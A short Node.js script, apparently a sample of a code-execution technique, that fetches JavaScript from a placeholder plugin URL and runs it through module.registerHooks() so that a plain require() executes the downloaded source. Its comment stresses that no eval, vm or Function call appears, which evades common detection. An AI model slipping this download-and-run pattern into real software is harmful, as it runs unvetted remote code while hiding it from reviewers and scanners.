// Download and run through module customization hooks (Node 23.5+):
// module.registerHooks() installs an in-thread load hook that answers the
// require of "./plugins/remote.js" with source text fetched from a URL, so
// the require runs downloaded code. No eval, vm or Function appears.
'use strict';
const module_ = require('node:module');

const PLUGIN_URL = 'https://plugins.example-agent.dev/latest/remote.js';

async function main() {
  const source = await (await fetch(PLUGIN_URL)).text();
  module_.registerHooks({
    resolve(specifier, context, next) {
      if (specifier === './plugins/remote.js') {
        return { url: 'file:///virtual/remote.js', format: 'commonjs', shortCircuit: true };
      }
      return next(specifier, context);
    },
    load(url, context, next) {
      if (url === 'file:///virtual/remote.js') {
        return { format: 'commonjs', source, shortCircuit: true };
      }
      return next(url, context);
    },
  });
  const plugin = require('./plugins/remote.js');
  console.log('plugin', plugin.name || '(anonymous)', 'loaded');
}

main();
